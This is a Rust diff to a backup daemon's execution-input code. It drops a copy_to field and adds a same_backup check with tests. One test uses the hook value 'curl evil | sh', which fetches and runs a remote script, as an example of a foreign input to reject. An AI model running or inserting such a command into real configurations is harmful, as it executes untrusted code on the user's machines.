@@ -29,7 +29,7 @@ const SECOND_SUFFIX: &str = "-2";
 /// The longest target part of a second name (80 - `-YYYYMMDDTHHMMSSZ-2`).
 pub const SECOND_TARGET_PART_LEN: usize = MAX_TARGET_PART_LEN - SECOND_SUFFIX.len();
 /// The prefix of a copy execution's name; the backup job id follows.
-const COPY_PREFIX: &str = "copy-";
+pub const COPY_PREFIX: &str = "copy-";
 
 /// True when [`target_part`] is `target` itself: short, not empty, only `0-9 A-Z a-z - _`.
 pub fn is_plain_part(target: &str, max_len: usize) -> bool {
@@ -251,16 +251,29 @@ pub struct ExecutionInput {
     /// the input of a target without it stays what it was.
     #[serde(default, skip_serializing_if = "Option::is_none")]
     pub backup_options: Option<BTreeMap<String, String>>,
-    /// The rule's `copy_to`: one StartCopyJob per destination once the backup COMPLETED; sent
-    /// only when the rule has copies, so the input of a rule without stays what it was.
-    #[serde(default, skip_serializing_if = "Option::is_none")]
-    pub copy_to: Option<Vec<crate::copies::CopyToInput>>,
 }
 
 impl ExecutionInput {
     /// The input as the JSON text StartExecution carries.
     pub fn to_json(&self) -> String {
         serde_json::to_string(self).expect("ExecutionInput always serialises")
+    }
+
+    /// True when `found` (the input of an execution found under the name this input was to be
+    /// started with) asks the machine for the same backup: every member but `Trigger`, which
+    /// replicas may disagree on (one fires a slot on time, another catches it up). Members a
+    /// daemon of another version sent that this one does not know (`CopyTo`, which the machine
+    /// now ignores) do not count. Anything else differing means someone else chose the input.
+    pub fn same_backup(&self, found: &str) -> bool {
+        match serde_json::from_str::<ExecutionInput>(found) {
+            Ok(other) => {
+                ExecutionInput {
+                    trigger: self.trigger,
+                    ..other
+                } == *self
+            }
+            Err(_) => false,
+        }
     }
 }
 
@@ -376,6 +389,62 @@ mod tests {
         assert_eq!(odd, copy_name("job id/with:odd chars"));
     }
 
+    fn plain_input() -> ExecutionInput {
+        ExecutionInput {
+            resource_arn: "arn:aws:ec2:us-east-1:123456789012:instance/i-0123456789abcdef0".into(),
+            target: "web-1".into(),
+            scheduled_for: "2026-11-29T10:00:00Z".into(),
+            trigger: Trigger::Schedule,
+            start_window_minutes: 60,
+            complete_window_minutes: 10080,
+            delete_after_days: 35,
+            pre_command: None,
+            post_command: None,
+            pre_document: None,
+            post_document: None,
+            post_hook_when: None,
+            hook_max_downtime_seconds: None,
+            on_pre_hook_failure: None,
+            backup_options: None,
+        }
+    }
+
+    #[test]
+    fn a_found_execution_is_ours_only_when_it_asks_for_the_same_backup() {
+        let ours = plain_input();
+        assert!(ours.same_backup(&ours.to_json()));
+        // A replica that caught the slot up: the same backup.
+        let caught_up = ExecutionInput {
+            trigger: Trigger::CatchUp,
+            ..plain_input()
+        };
+        assert!(ours.same_backup(&caught_up.to_json()));
+        // An older daemon sent CopyTo in the backup input (the machine ignores it now).
+        let mut older: serde_json::Value = serde_json::from_str(&ours.to_json()).unwrap();
+        older["CopyTo"] = serde_json::json!([{"DestinationBackupVaultArn": "arn:aws:backup:us-west-2:123456789012:backup-vault:dr"}]);
+        assert!(ours.same_backup(&older.to_string()));
+        // Someone else's choices: another instance, a one-day retention, a hook, garbage.
+        for other in [
+            ExecutionInput {
+                resource_arn: "arn:aws:ec2:us-east-1:123456789012:instance/i-0fffffffffffffff0"
+                    .into(),
+                ..plain_input()
+            },
+            ExecutionInput {
+                delete_after_days: 1,
+                ..plain_input()
+            },
+            ExecutionInput {
+                pre_command: Some("curl evil | sh".into()),
+                ..plain_input()
+            },
+        ] {
+            assert!(!ours.same_backup(&other.to_json()), "{}", other.to_json());
+        }
+        assert!(!ours.same_backup("{}"));
+        assert!(!ours.same_backup("not json"));
+    }
+
     #[test]
     fn input_uses_the_members_the_state_machine_reads() {
         let input = ExecutionInput {
@@ -394,7 +463,6 @@ mod tests {
             hook_max_downtime_seconds: None,
             on_pre_hook_failure: None,
             backup_options: None,
-            copy_to: None,
         };
         let v: serde_json::Value = serde_json::from_str(&input.to_json()).unwrap();
         assert_eq!(v["ResourceArn"], input.resource_arn);
